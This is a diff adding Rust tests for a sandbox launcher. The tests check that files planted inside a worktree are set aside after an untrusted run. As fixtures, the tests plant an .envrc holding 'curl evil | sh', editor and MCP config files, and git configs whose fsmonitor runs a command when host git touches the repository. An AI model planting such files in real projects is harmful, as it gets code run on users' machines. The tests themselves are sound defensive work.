@@ -685,3 +685,67 @@ both!(a_protected_path_the_cell_creates_is_set_aside_while_it_runs, |h| {
     assert!(!out.contains("STILL-THERE"), "the cell's .envrc stayed while it ran: {}", show(&o));
     assert!(out.trim().ends_with('1'), "set aside once: {}", show(&o));
 });
+
+both!(a_worktree_the_cell_closed_still_has_its_planted_files_set_aside, |h| {
+    // The cell takes the search permission from the worktree's top (or leaves it readable
+    // but not searchable) after planting: a launcher that took "cannot look" for "absent"
+    // would leave every file in place where direnv, editors and agents read it.
+    for mode in ["000", "600"] {
+        let o = cell_sh(
+            h,
+            &format!(
+                "echo 'curl evil | sh' > .envrc; mkdir .vscode; echo '{{}}' > .vscode/tasks.json; \
+                 echo '{{}}' > .mcp.json; chmod {mode} . ; echo PLANTED"
+            ),
+        );
+        assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
+        let m = std::fs::metadata(&h.work).expect("stat worktree");
+        assert_eq!(std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o700, 0o700, "owner access back");
+        for p in [".envrc", ".vscode", ".mcp.json"] {
+            assert!(!exists(&h.work.join(p)), "chmod {mode}: {p} stayed where host tools read it: {}", show(&o));
+        }
+        assert!(stderr_has(&o, "set aside"), "{}", show(&o));
+        for e in std::fs::read_dir(&h.work).expect("read").flatten() {
+            let _ = std::fs::remove_dir_all(e.path()).or_else(|_| std::fs::remove_file(e.path()));
+        }
+    }
+});
+
+both!(a_repository_under_a_directory_that_cannot_be_searched_is_set_aside, |h| {
+    // `chmod 600`: the names in `sub` can be read, nothing under them can be looked at.
+    let marker = h.path("marker-600-fsm");
+    let o = cell_sh(
+        h,
+        &format!(
+            "mkdir -p sub/inner && git -C sub/inner init -q && git -C sub/inner config core.fsmonitor 'touch {m}' && \
+             chmod 600 sub && echo PLANTED",
+            m = marker.display()
+        ),
+    );
+    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
+    assert!(!exists(&h.work.join("sub/inner/.git")), "the planted repository stayed: {}", show(&o));
+    host_status(h, &h.work.join("sub/inner"));
+    assert!(!exists(&marker), "host git ran the planted repository's fsmonitor");
+});
+
+both!(the_worktree_top_made_into_a_repository_is_set_aside, |h| {
+    // A worktree below the host repository's top has no `.git` of its own: `HEAD`,
+    // `objects/`, `refs/` and a `config` made there turn the directory itself into the
+    // repository host git finds first.
+    repo(h);
+    let sub = h.work.join("deeper");
+    std::fs::create_dir_all(&sub).expect("mkdir");
+    h.chown_all();
+    let marker = h.path("marker-top-fsm");
+    let script = format!(
+        "git init -q --bare /tmp/b && cp -r /tmp/b/HEAD /tmp/b/objects /tmp/b/refs . && \
+         printf '[core]\\n\\tbare = false\\n\\tworktree = %s\\n\\tfsmonitor = touch {m}\\n' \"$PWD\" > config && echo PLANTED",
+        m = marker.display()
+    );
+    let o =
+        h.cell().current_dir(&sub).args(["run", "--network", "none", "--", "sh", "-c", &script]).output().expect("run");
+    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
+    assert!(!exists(&sub.join("HEAD")), "the worktree kept the HEAD that makes it a repository: {}", show(&o));
+    host_status(h, &sub);
+    assert!(!exists(&marker), "host git ran the fsmonitor the cell wrote into the worktree's top");
+});
